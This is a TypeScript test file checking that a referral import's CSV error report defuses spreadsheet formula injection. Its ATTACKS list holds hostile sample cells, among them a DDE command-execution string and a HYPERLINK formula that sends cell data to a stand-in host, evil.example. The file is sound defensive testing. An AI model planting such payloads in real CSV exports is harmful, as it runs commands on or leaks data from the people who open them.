/**
 * Formula injection: the import error report echoed invalid referral ids unescaped, so a cell
 * like `=cmd|' /C calc'!A0` ran as a formula when the report was opened in a spreadsheet.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import fc from 'fast-check';
import { csvCell, toCsv } from '../../src-shared/csv';
import { tempCaseload, type TempCaseload } from '../support/temp-caseload';
import { toCsv as referralCsv, validRow } from '../support/referral-csv';

const ATTACKS = [
  "=cmd|' /C calc'!A0",
  '@HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+SUM(1+1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];

describe('the CSV cell escaper', () => {
  it('defuses every cell a spreadsheet would read as a formula', () => {
    for (const attack of ATTACKS) {
      const cell = Papa.parse<string[]>(toCsv(['x'], [[attack]])).data[1]?.[0];
      expect(cell, JSON.stringify(attack)).toBe(`'${attack}`);
    }
  });

  it('leaves ordinary text and numbers alone, and round-trips any text through a CSV reader', () => {
    expect(csvCell('JCP-0001')).toBe('JCP-0001');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    fc.assert(
      fc.property(fc.array(fc.string(), { minLength: 1, maxLength: 5 }), (cells) => {
        const csv = toCsv(
          cells.map((_, i) => `c${i}`),
          [cells],
        );
        const [, row] = Papa.parse<string[]>(csv, { delimiter: ',' }).data;
        expect(row).toEqual(cells.map((c) => (/^[=+\-@\t\r]/.test(c) ? `'${c}` : c)));
      }),
    );
  });
});

describe('the import error report', () => {
  let c: TempCaseload;
  beforeEach(async () => {
    c = await tempCaseload();
  });
  afterEach(() => c.close());

  it('never hands a spreadsheet a formula from the imported file', async () => {
    const rows = ATTACKS.map((attack, i) => validRow(i, { referral_id: attack }));
    const imports = c.services.imports;
    const done = await imports.finished(
      (await imports.start('evil.csv', referralCsv(rows))).importId,
    );
    expect(done.failed).toBe(ATTACKS.length);
    const report = Papa.parse<string[]>(await imports.errorReport(done.importId)).data.slice(1);
    const ids = report.map((r) => r[1]!).filter((id) => id !== '');
    expect(ids.length).toBeGreaterThan(0);
    for (const row of report)
      for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
  });
});
